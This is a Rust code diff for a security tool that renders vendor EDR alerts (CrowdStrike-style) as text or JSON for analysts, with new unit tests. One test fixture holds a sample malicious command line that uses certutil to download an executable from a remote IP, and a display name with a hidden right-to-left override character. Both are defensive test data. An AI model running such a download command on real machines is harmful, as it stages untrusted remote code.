@@ -2,17 +2,17 @@
 
 use std::fmt::Write as _;
 use std::io::Read;
-use std::path::Path;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 
 use aside_analyst::rules::RuleSet;
-use aside_backend::platforms::{REGISTRY, document, registration};
+use aside_backend::platforms::{REGISTRY, Registration, document, registration};
 use aside_shared::alert::{Alert, AlertKind, EntityKind, Outcome, Severity, SeverityLevel};
 use aside_shared::analysis::{Analysis, ClaimKind, Verdict};
 use aside_shared::id::{EntityId, EvidenceId};
 use aside_shared::instant::{Clock, Instant, utc};
 use aside_shared::text::{plain, visible};
+use serde_json::Value;
 
 /// Shows what the panel would show of a vendor's raw alert.
 #[derive(clap::Args)]
@@ -50,48 +50,62 @@ pub fn run(args: AlertArgs) -> Result<ExitCode, String> {
     let values = read(&args.file)
         .and_then(|bytes| document::values(&bytes))
         .map_err(|why| format!("{place}: {why}"))?;
-    let read: Vec<Result<Alert, String>> = values
+    let shown = show(vendor, &values, args.json)?;
+    for (at, why) in &shown.refused {
+        let record = at.map(|at| format!(", record {at}")).unwrap_or_default();
+        eprintln!("aside: {place}{record}: {}", visible(why));
+    }
+    if !shown.out.is_empty() {
+        println!("{}", shown.out);
+    }
+    Ok(match shown.refused[..] {
+        [] => ExitCode::SUCCESS,
+        _ => ExitCode::FAILURE,
+    })
+}
+
+/// What is printed, and which records were not read: which of several, counted from 1, and why.
+struct Shown {
+    out: String,
+    refused: Vec<(Option<usize>, String)>,
+}
+
+fn show(vendor: &Registration, values: &[Value], as_json: bool) -> Result<Shown, String> {
+    let records: Vec<Result<Alert, String>> = values
         .iter()
         .flat_map(|value| (vendor.normalise)(&"export".into(), value))
         .collect();
-    let several = read.len() > 1;
-    let mut code = ExitCode::SUCCESS;
-    let mut shown = Vec::new();
-    for (at, alert) in read.into_iter().enumerate() {
+    let several = records.len() > 1;
+    let mut read = Vec::new();
+    let mut refused = Vec::new();
+    for (at, alert) in records.into_iter().enumerate() {
         match alert {
             Ok(alert) => {
                 let analysis = aside_analyst::analyse(RuleSet::built_in(), &alert);
-                shown.push((alert, analysis));
+                read.push((alert, analysis));
             }
-            Err(why) => {
-                let which = if several {
-                    format!(", record {}", at + 1)
-                } else {
-                    String::new()
-                };
-                eprintln!("aside: {place}{which}: {}", visible(&why));
-                code = ExitCode::FAILURE;
-            }
+            Err(why) => refused.push((several.then_some(at + 1), why)),
         }
     }
-    let out = if args.json {
-        json(&shown, several)?
+    let out = if as_json {
+        json(&read, several)?
     } else {
-        let texts: Vec<_> = shown
+        let texts: Vec<_> = read
             .iter()
             .map(|(alert, analysis)| text(alert, analysis))
             .collect();
         texts.join("\n\n")
     };
-    if !out.is_empty() {
-        println!("{}", out.trim_end());
-    }
-    Ok(code)
+    Ok(Shown {
+        out: out.trim_end().to_owned(),
+        refused,
+    })
 }
 
-fn json(shown: &[(Alert, Analysis)], several: bool) -> Result<String, String> {
+/// One alert is an object, several are a list of these: also where only one of several could be read.
+fn json(read: &[(Alert, Analysis)], several: bool) -> Result<String, String> {
     let object = |(alert, analysis): &(Alert, Analysis)| serde_json::json!({ "alert": alert, "analysis": analysis });
-    let out = match shown {
+    let out = match read {
         [one] if !several => serde_json::to_string_pretty(&object(one)),
         [] if !several => return Ok(String::new()),
         all => serde_json::to_string_pretty(&all.iter().map(object).collect::<Vec<_>>()),
@@ -310,4 +324,64 @@ fn text(alert: &Alert, analysis: &Analysis) -> String {
     }
     lines.push(String::new());
     lines.join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn falcon() -> &'static Registration {
+        registration("crowdstrike").unwrap()
+    }
+
+    fn encoded_command() -> Value {
+        json!({
+            "composite_id": "c:ind:a:1", "product": "epp", "type": "ldt", "display_name": "Suspicious\u{202e} script",
+            "severity": 70, "agent_id": "a", "description": "A script that hides what it does.",
+            "device": { "device_id": "a", "hostname": "FIN-LT-9", "platform_name": "Windows" },
+            "cmdline": "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe", "filename": "certutil.exe", "process_id": "7",
+            "pattern_disposition_details": { "kill_process": true }, "timestamp": "2026-01-01T10:00:00Z",
+        })
+    }
+
+    #[test]
+    fn the_text_says_what_the_vendor_says_and_what_aside_makes_of_it() {
+        let shown = show(falcon(), &[encoded_command()], false).unwrap();
+        assert!(shown.refused.is_empty());
+        for part in [
+            "Suspicious⟦U+202E⟧ script  (endpoint)",
+            "70 (high)",
+            "2026-01-01 10:00:00 UTC (cloud's clock)",
+            "FIN-LT-9",
+            "acted on it: kill_process",
+            "What happened\n  - ",
+            "\nWhy\n",
+            "\nTimeline (UTC)\n",
+            "\nDo next\n",
+        ] {
+            assert!(shown.out.contains(part), "{part:?} is not in {}", shown.out);
+        }
+    }
+
+    #[test]
+    fn one_alert_is_an_object_and_several_are_a_list() {
+        let parsed = |values: &[Value]| {
+            let shown = show(falcon(), values, true).unwrap();
+            (serde_json::from_str::<Value>(&shown.out), shown.refused)
+        };
+        let (one, refused) = parsed(&[encoded_command()]);
+        let one = one.unwrap();
+        assert!(refused.is_empty());
+        assert_eq!(one["alert"]["key"]["id"], "c:ind:a:1");
+        assert!(one["analysis"]["claims"].is_array());
+        let (two, _) = parsed(&[encoded_command(), encoded_command()]);
+        assert_eq!(two.unwrap(), json!([one, one]));
+        let (some, refused) = parsed(&[json!([encoded_command(), { "hello": 1 }])]);
+        assert_eq!(some.unwrap(), json!([one]));
+        assert_eq!(refused[0].0, Some(2));
+        let (none, refused) = parsed(&[json!({ "hello": 1 })]);
+        assert!(none.is_err() && refused[0].0.is_none());
+    }
 }
